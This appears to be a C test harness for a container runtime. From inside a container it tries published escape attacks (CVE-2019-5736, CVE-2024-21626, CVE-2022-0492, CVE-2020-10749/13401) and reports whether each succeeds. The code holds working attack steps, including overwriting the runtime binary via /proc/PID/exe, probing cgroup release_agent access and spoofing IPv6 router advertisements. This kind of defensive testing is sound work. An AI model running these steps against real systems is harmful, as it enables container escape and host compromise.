/* Attacks that were published against other runtimes, carried out from inside a container.
 *
 *     probe-attack watch MS         looks at every process that appears: can its program be reached, its descriptors, its root?
 *     probe-attack release-agent    what cgroup v1's release_agent needs, step by step
 *     probe-attack advertise NAME   claims on that interface to be an IPv6 router (needs CAP_NET_RAW)
 *
 * Prints `name value` lines; exit status 0 when all was tried, 1 when the attack could not be made, 2 for wrong usage.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static const char *result_of(long result) {
  if (result >= 0) return "ok";
  const char *name = strerrorname_np(errno);
  return name == NULL ? "E?" : name;
}

static struct {
  long programs; /* of the runtime's own, seen by name */
  long opened;
  long writable;
  long seals;
  long descriptors; /* of files of the host, in somebody's table */
  long roots;       /* other than one's own */
} seen = {.seals = -1};

/* CVE-2019-5736: the program file of the runtime, kept open and opened again for writing. */
static void try_program(const char *pid) {
  char path[64];
  char target[256] = "";
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return;
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  if (readlink(path, target, sizeof target - 1) > 0 && strncmp(target, "/bin/", 5) != 0) {
    seen.opened++;
    seen.programs += strstr(target, "berth") != NULL;
    seen.seals = fcntl(fd, F_GET_SEALS);
    int again = open(path, O_WRONLY | O_CLOEXEC);
    if (again >= 0 && write(again, "#!", 2) == 2) seen.writable++;
    if (again >= 0) close(again);
  }
  close(fd);
}

/* CVE-2024-21626: a descriptor of a directory of the host. Pipes and sockets have no path. */
static void try_descriptors(const char *pid) {
  char path[64];
  struct dirent *entry;
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR *table = opendir(path);
  while (table != NULL && (entry = readdir(table)) != NULL) {
    char target[256] = "";
    if (entry->d_name[0] == '.') continue;
    if (readlinkat(dirfd(table), entry->d_name, target, sizeof target - 1) <= 0) continue;
    if (target[0] != '/' || strcmp(target, "/dev/null") == 0 || strncmp(target, "/proc", 5) == 0) continue;
    if (strstr(target, "memfd:") != NULL) continue;
    seen.descriptors++;
    printf("descriptor %s\n", target);
  }
  if (table != NULL) closedir(table);
}

static void try_root(const char *pid, const struct stat *own) {
  char path[64];
  struct stat found;
  static const char *const ways[] = {"root", "cwd/../../../.."};
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
    snprintf(path, sizeof path, "/proc/%s/%s", pid, ways[i]);
    if (stat(path, &found) == 0 && (found.st_dev != own->st_dev || found.st_ino != own->st_ino)) seen.roots++;
  }
}

static int watch(long duration_ms) {
  struct stat root;
  char self[16];
  if (stat("/", &root) < 0) return 1;
  snprintf(self, sizeof self, "%d", getpid());
  printf("ready 1\n");
  fflush(stdout);
  for (long end = now_ms() + duration_ms; now_ms() < end;) {
    DIR *processes = opendir("/proc");
    struct dirent *entry;
    while (processes != NULL && (entry = readdir(processes)) != NULL) {
      if (strspn(entry->d_name, "0123456789") != strlen(entry->d_name) || strcmp(entry->d_name, self) == 0) continue;
      try_program(entry->d_name);
      try_descriptors(entry->d_name);
      try_root(entry->d_name, &root);
    }
    if (processes == NULL) return 1;
    closedir(processes);
  }
  printf("helper-seen %ld\nprogram-opened %ld\nprogram-written %ld\nprogram-seals %ld\n", seen.programs, seen.opened,
         seen.writable, seen.seals);
  printf("host-descriptors %ld\nhost-roots %ld\n", seen.descriptors, seen.roots);
  return 0;
}

static long open_below(const char *directory, const char *name) {
  char path[512];
  snprintf(path, sizeof path, "%s/%s", directory, name);
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd;
}

/* CVE-2022-0492 */
static int release_agent(void) {
  DIR *hierarchies = opendir("/sys/fs/cgroup");
  struct dirent *entry;
  printf("namespaces %s\n", result_of(unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)));
  mkdir("/tmp/cgroup", 0700);
  static const char *const controllers[] = {"memory", "pids", "rdma", "misc", "freezer"};
  for (size_t i = 0; i < sizeof controllers / sizeof *controllers; i++) {
    printf("mount.%s %s\n", controllers[i], result_of(mount("cgroup", "/tmp/cgroup", "cgroup", 0, controllers[i])));
  }
  printf("remount %s\n", result_of(mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL)));
  while (hierarchies != NULL && (entry = readdir(hierarchies)) != NULL) {
    char path[300];
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "/sys/fs/cgroup/%s", entry->d_name);
    printf("agent.%s %s\n", entry->d_name, result_of(open_below(path, "release_agent")));
    printf("notify.%s %s\n", entry->d_name, result_of(open_below(path, "notify_on_release")));
    printf("tasks.%s %s\n", entry->d_name, result_of(open_below(path, "cgroup.procs")));
  }
  if (hierarchies != NULL) closedir(hierarchies);
  return 0;
}

/* CVE-2020-10749 and CVE-2020-13401: RFC 4861, section 4.2, to all nodes. */
static int advertise(const char *interface) {
  struct nd_router_advert advert = {.nd_ra_hdr = {.icmp6_type = ND_ROUTER_ADVERT}, .nd_ra_router_lifetime = htons(1800)};
  struct sockaddr_in6 all = {.sin6_family = AF_INET6, .sin6_addr = {{{0xff, 2, [15] = 1}}}, .sin6_scope_id = if_nametoindex(interface)};
  int hops = 255;
  advert.nd_ra_curhoplimit = 64;
  int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6);
  if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof hops) < 0) {
    perror("socket");
    return 1;
  }
  for (int i = 0; i < 3; i++) {
    if (sendto(fd, &advert, sizeof advert, 0, (struct sockaddr *)&all, sizeof all) < 0) {
      perror("sendto");
      return 1;
    }
    usleep(100000);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc == 3 && strcmp(argv[1], "watch") == 0) return watch(atol(argv[2]));
  if (argc == 2 && strcmp(argv[1], "release-agent") == 0) return release_agent();
  if (argc == 3 && strcmp(argv[1], "advertise") == 0) return advertise(argv[2]);
  fprintf(stderr, "usage: probe-attack watch MS | release-agent | advertise INTERFACE\n");
  return 2;
}
